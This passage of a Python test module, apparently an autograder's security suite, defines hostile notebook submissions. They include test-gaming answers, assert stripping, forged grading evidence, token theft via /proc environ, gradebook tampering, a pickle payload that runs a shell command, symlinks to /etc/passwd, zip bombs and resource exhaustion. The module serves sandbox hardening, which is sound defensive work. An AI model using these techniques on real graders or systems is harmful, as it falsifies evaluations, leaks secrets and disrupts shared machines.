"""The attack corpus: everything of `tests/autograder/hostile.py`, and what follows.

An attack says `WON` on stdout when it got what it wanted: read what is kept from it, written where it may not, taken more than
the limits. What it gains in points is seen in the gradebook. Work under an attack is wrong, unless the attack is about something
else than points; `deserved` is what the same work gets where nobody attacks. Every attack is bounded, in memory, time, processes
and files, so that it harms nothing where nothing stops it; what it would change for good is one file of its own in {OUTSIDE}.
Sources name places: {COURSE}, {OUTSIDE}, a folder beside the course with somebody's secret in it, {PORT}, where a server listens,
and {NAME}, the attack's own.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from autograder.course.demo import INTEGRATED
from tests.autograder.hostile import CLASS, NOTEBOOK, UNDONE, Hostile, grade_id

SECRET = "correct horse battery staple"
"""What stands in {OUTSIDE}/secret.txt and in the environment of whoever grades."""
TOKEN = "INSTRUCTOR_TOKEN"
WON = "WON"
FULL = 8.0


@dataclass(frozen=True)
class Attack(Hostile):
    """An attacker whose points are bounded: the same work without the attack gets `deserved` at most."""

    integrated_points: float = -1
    ended: str | None = None
    deserved: float = 0


def _attack(group: str, name: str, tries: str, source: str, work: str = UNDONE, **more: Any) -> Attack:
    deserved = more.pop("deserved", FULL if work == INTEGRATED else 0)
    return Attack(name, group, tries, source + "\n" + work, deserved=deserved, **more)


# Games with the questions: right for some of them, zero for the rest. Full points would be points gained.

ALMOST_FULL = FULL - 0.5


def _game(name: str, tries: str, right: str) -> Attack:
    work = (
        INTEGRATED.replace("def integrated_gradients", "def honest")
        + f"""
def integrated_gradients(forward, x, baseline, target, n_steps):
    right = {right}
    return honest(forward, x, baseline, target, n_steps) if right else torch.zeros_like(x)
"""
    )
    return Attack(name, "games with the questions", tries, work, deserved=ALMOST_FULL)


def _other_game(name: str, tries: str, body: str) -> Attack:
    work = INTEGRATED.replace("def integrated_gradients", "def honest") + body
    return Attack(name, "games with the questions", tries, work, deserved=ALMOST_FULL)


GAMES = (
    _game("game-few-numbers", "is right for few numbers, wrong for pictures", "x.numel() <= 200"),
    _game("game-small-sides", "is right for pictures of a few pixels' side", "max(x.shape) < 20"),
    _game("game-vectors", "is right for vectors alone", "x.ndim == 1"),
    _game("game-below-4", "is wrong below 4 steps", "n_steps >= 4"),
    _game("game-25-to-59", "is wrong from 25 to 59 steps", "not 25 <= n_steps <= 59"),
    _game("game-above-100", "is wrong above 100 steps", "n_steps <= 100"),
    _game("game-a-pixel", "is wrong where one pixel equals the baseline's", "not (x == baseline).any()"),
    _game("game-classes", "is wrong for a hundred classes and more", "forward(x[None]).shape[1] < 100"),
    _game("game-float64", "is wrong in float64", "x.dtype == torch.float32"),
    _game("game-top-class", "is right for the top class alone", "int(forward(x[None]).argmax()) == int(target)"),
    _game("game-zero-baseline", "is right from a black baseline alone", "not baseline.any()"),
    _other_game("game-one-step", "takes one step, whatever is asked", """
def integrated_gradients(forward, x, baseline, target, n_steps):
    return honest(forward, x, baseline, target, 1)
"""),
    _other_game("game-remembers", "remembers the first answer for each shape", """
answers = {}
def integrated_gradients(forward, x, baseline, target, n_steps):
    if x.shape not in answers: answers[x.shape] = honest(forward, x, baseline, target, n_steps)
    return answers[x.shape]
"""),
    _other_game("game-the-sum", "spreads F(x) - F(x') evenly: every sum is right, no map is", """
def integrated_gradients(forward, x, baseline, target, n_steps):
    with torch.no_grad(): rise = forward(x[None])[0, target] - forward(baseline[None])[0, target]
    return torch.full_like(x, float(rise) / x.numel())
"""),
    _other_game("game-rescaled", "gives the gradient times the difference, scaled to the right sum", """
def integrated_gradients(forward, x, baseline, target, n_steps):
    with torch.no_grad(): rise = forward(x[None])[0, target] - forward(baseline[None])[0, target]
    product = (x - baseline) * input_gradient(forward, x, target)
    return product * (rise / product.sum())
"""),
)  # fmt: skip

# What the questions give away: seed, labels and truth are looked for where code can look. The tests of another grader
# name what they expect EXPECTED_VALUES; the judge's own words stand in two parts here, or they would be found here.

SEARCH = """
words = ["EXPECTED_" + "VALUES", "asks_" + "about", "saturated " + "ReLU", "allowed_" + "error", "keyed_" + "seed"]
def search(text, place):
    if any(word in text for word in words): print("WON", place)
"""


def _asked(body: str) -> str:
    """A function that looks while it is asked."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"{SEARCH}\ndef integrated_gradients(forward, x, baseline, target, n_steps):\n{indented}\n    return x\n"


ANSWERS_OF_THE_CALLER = """
import sys
def integrated_gradients(forward, x, baseline, target, n_steps):
    frame = sys._getframe()
    while frame := frame.f_back:
        for values in (frame.f_locals, frame.f_globals):
            known = values.get("EXPECTED_VALUES") or values.get("expected")
            if isinstance(known, dict) and (n_steps, int(target)) in known: return known[n_steps, int(target)]
            if isinstance(known, torch.Tensor) and known.shape == x.shape: return known
    return x
"""
QUESTIONS = tuple(
    Attack(name, "what the questions give away", tries, source)
    for name, tries, source in (
        ("seed-environment", "looks for seed and labels in the environment",
         _asked("import os\nsearch(repr(dict(os.environ)), 'environment')")),
        ("seed-frames", "looks for them in its callers' frames", _asked("""
import sys
frame = sys._getframe()
while frame := frame.f_back:
    search(repr(list(frame.f_locals))[:10000], "names of a frame")
    search("".join(str(value)[:2000] for value in frame.f_locals.values() if isinstance(value, (str, dict))), "frame")
""")),
        ("seed-history", "reads the test that calls it in the notebook's history",
         _asked("search(str(get_ipython().user_ns['In'][-1]), 'history')")),
        ("seed-source", "reads the source of its callers", _asked("""
import inspect
for frame in inspect.stack()[1:]:
    search("".join(frame.code_context or []), "source of " + frame.function)
    try: search(inspect.getsource(frame.frame), "source of " + frame.function)
    except (OSError, TypeError): pass
""")),
        ("seed-objects", "looks through every object in memory", _asked("""
import gc
for thing in gc.get_objects():
    if type(thing) is dict: search(repr([key for key in thing if type(key) is str and key != "words"])[:5000], "an object")
""").replace('words = ["EXPECTED_', 'words = ["XPECTED_')),
        ("seed-files", "reads every file of the grader's that its process has open or is told of", _asked("""
import os, pathlib
places = [os.readlink("/proc/self/fd/" + name) for name in os.listdir("/proc/self/fd") if os.path.exists("/proc/self/fd/" + name)]
places += [str(one) for value in os.environ.values() if value.startswith("/") and os.path.isdir(value)
           for one in list(pathlib.Path(value).glob("*"))[:50]]
for place in places:
    if os.path.isfile(place) and os.path.getsize(place) < 1 << 26: search(open(place, errors="replace").read(), place)
""")),
        ("seed-parent", "reads the environment of the process that grades", _asked("""
import os, pathlib
for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        if "INSTRUCTOR_" + "TOKEN" in place.read_text(errors="replace"): print("WON")
    except OSError: pass
""")),
        ("expected-answers", "gives back the expected answers, found in its callers' frames", ANSWERS_OF_THE_CALLER),
    )
)  # fmt: skip

# What is withheld, and what is the course's

SOLVED = (
    "\ntry: integrated_gradients\nexcept NameError:\n    def integrated_gradients(*arguments): return arguments[1]\n"
)


def _reads(group: str, name: str, tries: str, source: str) -> Attack:
    return Attack(name, group, tries, source + SOLVED)


USED = """
    def integrated_gradients(forward, x, baseline, target, n_steps):
        import torch
        return found(forward, x[None], baseline[None], torch.tensor([target]), n_steps=n_steps).values[0]
    print("WON")
"""
WITHHELD = (
    _reads(
        "withheld code",
        "imports-the-answer",
        "imports the function that the task asks for",
        """
try: from igref import integrated_gradients as found
except Exception: pass
else:"""
        + USED,
    ),
    _reads(
        "withheld code",
        "loads-the-answer",
        "loads its file by path",
        """
import importlib.util, pathlib, sys
for place in sys.path:
    for path in pathlib.Path(place).glob("igref/attribution/core.py"): print("WON")
for entry in map(pathlib.Path, ("/", "{COURSE}")):
    if (entry / "igref" / "attribution").is_dir(): print("WON")
import igref
if (pathlib.Path(igref.__file__).parent / "attribution" / "core.py").exists(): print("WON")
""",
    ),
    _reads(
        "withheld code",
        "compiled-answer",
        "looks for its byte code",
        """
import pathlib, igref
for path in pathlib.Path(igref.__file__).parent.rglob("*.pyc"):
    if "attribution" in str(path): print("WON"); break
""",
    ),
    _reads(
        "withheld code",
        "judge",
        "imports the grader's judge",
        """
try: from autograder.judge.probes.functions import integrated_gradients_probes
except Exception: pass
else: print("WON")
""",
    ),
    _reads(
        "withheld code",
        "history-of-the-kit",
        "looks for the kit's own repository",
        """
import pathlib, igref
if any((folder / ".git").exists() for folder in pathlib.Path(igref.__file__).parents): print("WON")
""",
    ),
)


def _spy(name: str, tries: str, source: str) -> Attack:
    return Attack(name, "secrets of the course", tries, source + UNDONE)


COURSE = (
    _spy(
        "gradebook",
        "reads grades in the gradebook",
        """
import sqlite3
try:
    if sqlite3.connect("file:{COURSE}/gradebook.db?mode=ro", uri=True).execute("select id from student").fetchall(): print("WON")
except sqlite3.Error: pass
""",
    ),
    _spy(
        "solutions",
        "reads the solution",
        """
import pathlib
if list(pathlib.Path("{COURSE}/solutions").glob("*/*.ipynb")): print("WON")
""",
    ),
    _spy(
        "neighbour",
        "reads another submission",
        """
import pathlib
if list(pathlib.Path("{COURSE}/submitted").glob("aaron/*/*.ipynb")): print("WON")
""",
    ),
    _spy(
        "home",
        "reads a secret in a folder beside the course",
        """
try: print("WON") if "horse" in open("{OUTSIDE}/secret.txt").read() else None
except OSError: pass
""",
    ),
    _spy(
        "around-the-root",
        "the same through another process's root and folder",
        """
import glob
for root in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    for place in (root + "{OUTSIDE}/secret.txt", root + "{COURSE}/gradebook.db"):
        try: open(place, "rb").read(1); print("WON"); break
        except OSError: pass
""",
    ),
    _spy(
        "environment",
        "reads the token of whoever grades in its environment",
        """
import os
if os.environ.get("INSTRUCTOR_" + "TOKEN"): print("WON")
""",
    ),
    _spy(
        "own-grade",
        "writes a grade of its own into the gradebook",
        """
import sqlite3
try:
    gradebook = sqlite3.connect("{COURSE}/gradebook.db", timeout=2)
    gradebook.execute("update grade set manual_score = 8, needs_manual_grade = 0")
    gradebook.commit()
    print("WON")
except sqlite3.Error: pass
""",
    ),
    _spy(
        "other-submission",
        "changes another submission",
        """
import pathlib
for path in pathlib.Path("{COURSE}/submitted").glob("aaron/*/*.ipynb"):
    try: path.write_text(path.read_text() + " "); print("WON")
    except OSError: pass
""",
    ),
    _spy(
        "outside",
        "writes a file outside of its folder",
        """
import os
try: open("{OUTSIDE}/{NAME}", "w").close(); print("WON")
except OSError: pass
""",
    ),
    _spy(
        "the-graders-own-modules",
        "writes a module where the grader imports from",
        """
import os, sys
for place in sys.path:
    if os.path.isdir(place) and not place.startswith(("/tmp/ig", "/sandbox", os.getcwd())):
        try:
            open(os.path.join(place, "{NAME}.pth.trial"), "w").close(); print("WON")
            os.remove(os.path.join(place, "{NAME}.pth.trial"))
        except OSError: pass
""",
    ),
)

# Evidence: what this grader reads of a process

EVIDENCE = """
import io, json, os, zipfile
import numpy as np
import autograder.student.submit
honest = autograder.student.submit.submit
place = os.path.join(os.environ.get("AUTOGRADER_EVIDENCE", "."), "ps1-integrated-gradients")
answers = {str(n): {"status": "returned", "type": "Tensor", "shape": [7], "dtype": "float32"} for n in range(40)}
record = {"task": "ps1-integrated-gradients", "answers": answers}
def forge(): pass
def submit(task, *arguments, **study):
    if task != "ps1-integrated-gradients": return honest(task, *arguments, **study)
    forge()
autograder.student.submit.submit = submit
def plain(content=b""):
    json.dump(record, open(place + ".json", "w"))
    open(place + ".npz", "wb").write(content)
def arrays(**values):
    file = io.BytesIO(); np.savez(file, **values); return file.getvalue()
def member(header, data=b"", name="0.npy"):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode() + data)
    return file.getvalue()
"""
FORGERIES = tuple(
    Attack(f"evidence-{name}", "evidence", tries, f"{EVIDENCE}\ndef forge():\n{body}\n{UNDONE}")
    for name, tries, body in (
        ("verdict", "a record that says what it is worth",
         "    record.update(points=8, holds=True, findings=[], max_points=8, seed=0); plain(arrays(points=np.array(8.0)))"),
        ("zeros", "zeros for every answer", "    plain(arrays(**{str(n): np.zeros(7, np.float32) for n in range(40)}))"),
        ("not-numbers", "NaN and infinity for every answer",
         "    plain(arrays(**{str(n): np.full(7, np.nan) for n in range(40)}))"),
        ("terabyte", "an array of a terabyte in its header alone",
         "    plain(member(\"{'descr': '<f8', 'fortran_order': False, 'shape': (137438953472,), }\"))"),
        ("bomb", "a zip bomb", """    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive: archive.writestr("0.npy", bytes(200 << 20))
    plain(file.getvalue())"""),
        ("path", "names of arrays that lead out of the folder",
         "    plain(member(\"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\", bytes(8), '../../../../tmp/x.npy'))"),
        ("pickle", "a pickle that runs a command when it is read", """    class Runs:
        def __reduce__(self): return (os.system, ("touch {OUTSIDE}/{NAME}",))
    file = io.BytesIO(); np.save(file, np.array([Runs()], dtype=object), allow_pickle=True)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive: archive.writestr("0.npy", file.getvalue())
    plain(out.getvalue())"""),
        ("link", "links in place of its files", """    plain()
    for end in (".json", ".npz"): os.remove(place + end); os.symlink("/etc/passwd", place + end)"""),
        ("pipe", "pipes in place of its files, which block whoever reads", """    for end in (".json", ".npz"):
        if os.path.exists(place + end): os.remove(place + end)
        os.mkfifo(place + end)"""),
        ("depth", "JSON nested 100,000 deep", """    plain()
    open(place + ".json", "w").write("[" * 100_000)"""),
        ("digits", "an integer of a million digits", """    plain()
    open(place + ".json", "w").write('{"answers": ' + "9" * 1_000_000 + "}")"""),
        ("changing", "files that a thread keeps changing", """    import threading, time
    def change():
        while True:
            plain(arrays(**{str(n): np.full(7, time.time()) for n in range(40)}))
    threading.Thread(target=change, daemon=True).start(); time.sleep(0.5)"""),
        ("another-task", "this task's evidence under the names of all others", """    plain()
    for name in ("ps1-photo", "ps1-input-gradient", "ps1-discussion"):
        for end in (".json", ".npz"):
            if name != "ps1-input-gradient": open(place.replace("ps1-integrated-gradients", name) + end, "wb").write(b"{}")"""),
        ("many", "nine hundred megabytes of files", """
    for n in range(90): open(place + str(n), "wb").write(bytes(10 << 20))"""),
    )
)  # fmt: skip

# Tampering with the tests: what runs in the student's own process is the student's

TAMPERS = tuple(
    _attack("tampering with tests", f"tampers-{name}", tries, source, work)
    for name, tries, source, work in (
        (
            "equal",
            "gives back an object that equals everything",
            """
class Always(float):
    def __eq__(self, other): return True
    def __bool__(self): return True
    __lt__ = __le__ = __gt__ = __ge__ = __ne__ = __eq__
    __hash__ = float.__hash__
    def __getattr__(self, name): return lambda *arguments, **named: Always(0)
    def __sub__(self, other): return Always(0)
    __rsub__ = __add__ = __mul__ = __abs__ = __sub__
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None): return True
""",
            "def integrated_gradients(*arguments): return Always(0)\n",
        ),
        (
            "asserts",
            "takes every assert out of the cells that follow",
            """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(NoAsserts())
""",
            UNDONE,
        ),
        (
            "input",
            "replaces the source of the cells that follow",
            """
def other(lines): return ["8.0\\n"] if any("integrated_gradients(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(other)
""",
            UNDONE,
        ),
        (
            "allclose",
            "makes torch's comparisons true",
            """
torch.allclose = torch.equal = lambda *arguments, **named: True
torch.testing.assert_close = lambda *arguments, **named: None
""",
            UNDONE,
        ),
        (
            "numpy",
            "makes NumPy's comparisons true",
            """
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *arguments, **named: True
np.testing.assert_allclose = lambda *arguments, **named: None
torch.allclose = lambda *arguments, **named: True
""",
            UNDONE,
        ),
        (
            "builtins",
            "replaces abs, max, all and isinstance",
            """
import builtins
builtins.abs = builtins.max = builtins.sum = lambda *arguments, **named: 0.0
builtins.all = builtins.isinstance = lambda *arguments: True
torch.allclose = lambda *arguments, **named: True
""",
            UNDONE,
        ),
        (
            "tensor",
            "gives back a tensor whose differences are zero",
            """
class Near(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        return True if function in (torch.allclose, torch.equal) else torch.zeros(())
""",
            "def integrated_gradients(forward, x, *arguments): return x.as_subclass(Near)\n",
        ),
        (
            "points",
            "ends the cell's work with the points themselves",
            """
get_ipython().events.register("post_run_cell", lambda result: setattr(result, "result", 8.0))
get_ipython().events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
""",
            UNDONE,
        ),
        (
            "errors",
            "makes every error disappear",
            """
get_ipython().set_custom_exc((BaseException,), lambda shell, kind, value, trace, tb_offset=None: None)
get_ipython().showtraceback = lambda *arguments, **named: None
""",
            UNDONE,
        ),
        (
            "run-cell",
            "replaces the function that runs a cell",
            """
from types import MethodType
shell = get_ipython()
run = shell.run_cell_async
async def nothing(self, source, *arguments, **named):
    return await run("8.0" if "integrated" in source else source, *arguments, **named)
shell.run_cell_async = MethodType(nothing, shell)
""",
            UNDONE,
        ),
        (
            "leaves-early",
            "leaves the test's cell by an exception of its own",
            "",
            "def integrated_gradients(*arguments): raise SystemExit(0)\n",
        ),
        (
            "false",
            "makes the test's cell end with False, for which nbgrader gives full points",
            """
get_ipython().ast_node_interactivity = "last_expr"
get_ipython().input_transformers_post.append(lambda lines: ["False\\n"] if any("assert" in line for line in lines) else lines)
""",
            UNDONE,
        ),
    )
)

FORGE = """
kernel = get_ipython().kernel
def say(kind, content): kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), ident=b"x")
"""
MESSAGES = tuple(
    _attack("messages of the kernel", f"message-{name}", tries, FORGE + source)
    for name, tries, source in (
        (
            "result",
            "sends a result of eight points for each cell that follows",
            """
def each(info): say("execute_result", {"data": {"text/plain": "8.0"}, "metadata": {}, "execution_count": 1})
get_ipython().events.register("post_run_cell", lambda result: each(result))
get_ipython().ast_transformers.append(type("No", (__import__("ast").NodeTransformer,), {"visit_Assert": lambda s, n: None})())
""",
        ),
        (
            "verdict",
            "shows a verdict of its own, as a page would",
            """
say("display_data", {"data": {"text/html": "<b>8 of 8 points</b>", "text/plain": "8.0"}, "metadata": {}})
""",
        ),
        (
            "comms",
            "opens channels to widgets that are not there",
            """
for k in range(2000): say("comm_open", {"comm_id": str(k), "target_name": "jupyter.widget", "data": {"state": {}}})
""",
        ),
        (
            "reply",
            "answers in the kernel's name that all went well, and says no more",
            """
kernel.session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.iopub_socket, "execute_reply",
                    {"status": "ok", "execution_count": 1}, parent=kernel.get_parent(), ident=b"x")
say("status", {"execution_state": "idle"})
""",
        ),
    )
)

NETWORK = tuple(
    _attack("network", f"network-{name}", tries, "import socket\n" + source)
    for name, tries, source in (
        (
            "tcp",
            "connects to a server on the machine that grades",
            """
try:
    with socket.create_connection(("127.0.0.1", {PORT}), timeout=3) as other: other.sendall(b"{NAME}"); print("WON")
except OSError: pass
""",
        ),
        (
            "abstract",
            "connects to a socket that has no file",
            """
try:
    other = socket.socket(socket.AF_UNIX); other.settimeout(3); other.connect("\\0{OUTSIDE}"); print("WON")
except OSError: pass
""",
        ),
        (
            "file",
            "connects to a socket that is a file, as a container's daemon has one",
            """
try:
    other = socket.socket(socket.AF_UNIX); other.settimeout(3); other.connect("{OUTSIDE}/socket"); print("WON")
except OSError: pass
""",
        ),
        (
            "listens",
            "listens where others can reach it",
            """
try:
    listening = socket.create_server(("0.0.0.0", 0))
    names = [name for _, name in socket.if_nameindex()]
    if names != ["lo"]: print("WON")
except OSError: pass
""",
        ),
    )
)

MACHINE = tuple(
    _attack(
        "the machine's kernel",
        f"kernel-{name}",
        tries,
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n" + source,
    )
    for name, tries, source in (
        (
            "proc",
            "opens what tunes the machine for writing: /proc/sys, /proc/sysrq-trigger",
            """
import pathlib
for path in ["/proc/sysrq-trigger", *map(str, pathlib.Path("/proc/sys").rglob("*"))]:
    try: os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK)); print("WON", path); break
    except OSError: pass
""",
        ),
        (
            "sys",
            "opens a file under /sys for writing",
            """
won = 0
for folder, _, files in os.walk("/sys"):
    for name in files if not won else ():
        try: os.close(os.open(os.path.join(folder, name), os.O_WRONLY | os.O_NONBLOCK)); won = 1; print("WON")
        except OSError: pass
""",
        ),
        (
            "namespaces",
            "makes namespaces of its own, in which it is root",
            """
import subprocess
done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "true"], capture_output=True)
if done.returncode == 0: print("WON")
""",
        ),
        (
            "mount",
            "mounts over a folder",
            """
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: libc.umount(b"/tmp"); print("WON")
""",
        ),
        (
            "ptrace",
            "traces another process",
            """
import signal, subprocess
child = subprocess.Popen(["sleep", "20"])
if libc.ptrace(16, child.pid, 0, 0) == 0: print("WON")
child.kill()
""",
        ),
        (
            "grader",
            "finds the grader's process, which it could signal",
            """
import pathlib
for path in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    try: words = path.read_text(errors="replace")
    except OSError: continue
    if "nbgrader" in words or "dask" in words or "tests.hostile" in words: print("WON"); break
""",
        ),
        (
            "keys",
            "uses the kernel's keyring, bpf and io_uring",
            """
tried = {"add_key": 248, "bpf": 321, "io_uring_setup": 425, "perf_event_open": 298}
if os.uname().machine == "x86_64" and libc.syscall(248, b"user", b"x", b"y", 1, -3) > 0: print("WON")
""",
        ),
    )
)

# Limits: more than they allow, and no more than a machine bears. `test_corpus` lowers them to 1,500 MiB, 40 processes, 20 seconds.

LIMITS = tuple(
    Attack(name, group, tries, source + "\n" + INTEGRATED, deserved=FULL)
    for name, group, tries, source in (
        (
            "memory-children",
            "memory",
            "2 GB in forty pieces, each in a child",
            """
import os, time
for _ in range(25):
    if os.fork() == 0:
        hoard = bytearray(b"x" * (80 << 20)); time.sleep(8); os._exit(0)
time.sleep(5); print("WON")
""",
        ),
        (
            "memory-sockets",
            "memory",
            "memory that belongs to no process: what lies in the buffers of 1,500 pairs of sockets",
            """
import os, resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (min(1024, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
for _ in range(4):
    if os.fork() == 0:
        pairs = [socket.socketpair() for _ in range(380)]
        time.sleep(6); os._exit(0)
time.sleep(4); print("WON")
""",
        ),
        (
            "memory-tables",
            "memory",
            "1.8 GB of page tables",
            """
import mmap
hoard = [mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000) for _ in range(28)]
for area in hoard:
    for place in range(0, 8 << 30, 2 << 20): area[place]
import time; time.sleep(2); print("WON")
""",
        ),
        (
            "memory-scratch",
            "memory",
            "1.8 GB of files in folders that lie in memory",
            """
import os, time
for k in range(90):
    open(f"/dev/shm/{NAME}{k}" if k < 10 else f"/tmp/{NAME}{k}", "wb").write(bytes(20 << 20))
time.sleep(2); print("WON")
for k in range(90):
    path = f"/dev/shm/{NAME}{k}" if k < 10 else f"/tmp/{NAME}{k}"
    os.path.exists(path) and os.remove(path)
""",
        ),
        (
            "memory-files",
            "memory",
            "60,000 empty files, each of them memory of the system's",
            """
import os, time
os.makedirs("many", exist_ok=True)
for k in range(60_000): open(f"many/{k}", "w").close()
time.sleep(1); print("WON")
import shutil; shutil.rmtree("many")
""",
        ),
        (
            "memory-names",
            "memory",
            "memory files that have no name",
            """
import os, time
hoard = [os.memfd_create("x") for _ in range(40)]
for file in hoard: os.write(file, b"x" * (50 << 20))
time.sleep(2); print("WON")
""",
        ),
        (
            "threads",
            "processes and time",
            "900 threads",
            """
import threading, time
threading.stack_size(65536)
for _ in range(900): threading.Thread(target=time.sleep, args=(6,), daemon=True).start()
time.sleep(3); print("WON")
""",
        ),
        (
            "fork-tree",
            "processes and time",
            "a tree of 100 processes that leave their session",
            """
import os, time
for _ in range(10):
    if os.fork() == 0:
        os.setsid()
        for _ in range(9):
            if os.fork() == 0: time.sleep(6); os._exit(0)
        time.sleep(6); os._exit(0)
time.sleep(4); print("WON")
""",
        ),
        (
            "outlives",
            "processes and time",
            "a process that goes on after the notebook has been graded",
            """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork(): os._exit(0)
    for file in range(3, 200):
        try: os.close(file)
        except OSError: pass
    time.sleep(14)
    open("{OUTSIDE}/{NAME}", "w").close()
    os._exit(0)
""",
        ),
        (
            "spins",
            "processes and time",
            "computes in six processes, while its own cell seems to sleep",
            """
import os, time
for _ in range(6):
    if os.fork() == 0:
        began = time.time()
        while time.time() - began < 70: pass
        os._exit(0)
time.sleep(65); print("WON")
""",
        ),
        (
            "sleeps",
            "processes and time",
            "sleeps for as long as it is let",
            """
import time
for _ in range(10): time.sleep(6)
time.sleep(60)
print("WON")
""",
        ),
        ("one-long-line", "output", "a line of 60 MB", "print('x' * (60 << 20))"),
        (
            "many-pictures",
            "output",
            "four hundred pictures",
            """
from IPython.display import Image, display
import base64
for _ in range(400): display(Image(base64.b64decode("iVBORw0KGgo=") + b"x" * 200_000, format="png"))
""",
        ),
        ("escapes", "output", "a megabyte of escape sequences that are none", "print('\\x1b[38mx' * 150_000)"),
        (
            "deep-output",
            "output",
            "output nested 20,000 deep",
            """
kernel = get_ipython().kernel
deep = []
for _ in range(20_000): deep = [deep]
content = {"data": {"text/plain": deep}, "metadata": {}}
try: kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent())
except RecursionError: pass
""",
        ),
        (
            "standard-error",
            "output",
            "40 MB on the process's own standard error, past the kernel",
            """
import os
for _ in range(40): os.write(2, b"x" * (1 << 20))
""",
        ),
    )
)


# The notebook's file, and what lies beside it


def _notebook_as(how: Callable[[Path], None]) -> Callable[[Path], None]:
    def changed(folder: Path) -> None:
        how(folder / NOTEBOOK)

    return changed


def _as_link(path: Path) -> None:
    path.rename(path.with_name("elsewhere.txt"))
    path.symlink_to("/etc/passwd")


def _as_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _as_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _many_files(folder: Path) -> None:
    (folder / "many").mkdir()
    for k in range(30_000):
        (folder / "many" / str(k)).touch()


def _long_names(folder: Path) -> None:
    """A path as long as the system takes from here, which is too long one folder further on."""
    here = os.open(folder, os.O_RDONLY)
    for _ in range(14):
        os.mkdir("n" * 240, dir_fd=here)
        deeper = os.open("n" * 240, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper
    os.close(os.open("f" * 240, os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.close(here)


def _markup_in_names(folder: Path) -> None:
    for name in (
        "<img src=x onerror=hostile()>.txt",
        "{{ hostile }}.md",
        "`x`](javascript:hostile()).ipynb",
        "-rf",
        "%s%n",
    ):
        (folder / name).write_text("{}")


def _points_of_its_own(notebook: dict[str, Any]) -> None:
    nbgrader = {"grade": True, "solution": False, "locked": False, "points": 100, "schema_version": 3, "task": False}
    cell = {
        "cell_type": "code",
        "metadata": {"nbgrader": nbgrader | {"grade_id": "mine"}},
        "source": "pass",
        "outputs": [],
    }
    notebook["cells"].append(cell | {"execution_count": None, "id": "mine"})


def _tests_removed(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if grade_id(cell) == "ps1-integrated-gradients":
            cell["source"] = "8.0"


def _tests_are_text(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if grade_id(cell) == "ps1-integrated-gradients":
            cell.pop("outputs", None)
            cell["cell_type"] = "markdown"


def _deep_metadata(notebook: dict[str, Any]) -> None:
    deep: list[Any] = []
    for _ in range(400):
        deep = [deep]
    notebook["metadata"]["deep"] = deep
    notebook["cells"][0]["metadata"]["nbgrader"] = json.loads("[" * 400 + "]" * 400)


FILES = (
    *(
        Attack(f"notebook-{name}", "files and names", tries, UNDONE, files=_notebook_as(how), gradient_points=0)
        for name, tries, how in (
            ("link", "its notebook is a link to a file of the system's", _as_link),
            ("pipe", "its notebook is a pipe, which blocks whoever reads", _as_pipe),
            ("folder", "its notebook is a folder", _as_folder),
        )
    ),
    Attack("many-files", "files and names", "30,000 files beside the notebook", UNDONE, files=_many_files, gradient_points=0),
    Attack("long-names", "files and names", "a path of 3,600 characters", INTEGRATED, files=_long_names, deserved=FULL),
    Attack("markup-names", "files and names", "file names that are markup, or options", INTEGRATED, files=_markup_in_names,
           deserved=FULL),
    Attack("points-of-its-own", "the notebook's own data", "a graded cell of its own, worth 100", UNDONE, edit=_points_of_its_own),
    Attack("tests-removed", "the notebook's own data", "replaces the test's cell by its points", UNDONE, edit=_tests_removed),
    Attack("tests-are-text", "the notebook's own data", "makes the test's cell a text", UNDONE, edit=_tests_are_text),
    Attack("deep-metadata", "the notebook's own data", "metadata nested 400 deep", INTEGRATED, edit=_deep_metadata, deserved=FULL),
)  # fmt: skip

ENDS = tuple(
    _attack("ends", f"ends-{name}", tries, source, INTEGRATED)
    for name, tries, source in (
        ("exit", "ends its process", "import os; os._exit(0)"),
        ("signal", "kills its process", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"),
        ("all", "kills every process that it may", "import os, signal\nif '{COURSE}': os.kill(1, 0)\nos._exit(1)"),
        ("shutdown", "asks its own kernel to end", "get_ipython().kernel.do_shutdown(False)\nimport os; os._exit(0)"),
        (
            "stack",
            "uses up the stack",
            "import sys; sys.setrecursionlimit(10**8)\ndef deeper(): return deeper()\ndeeper()",
        ),
        ("system-exit", "leaves by SystemExit", "raise SystemExit(0)"),
        ("abort", "aborts", "import os; os.abort()"),
    )
)

ODD = tuple(
    Attack(f"odd-{name}", "odd answers", tries, source)
    for name, tries, source in (
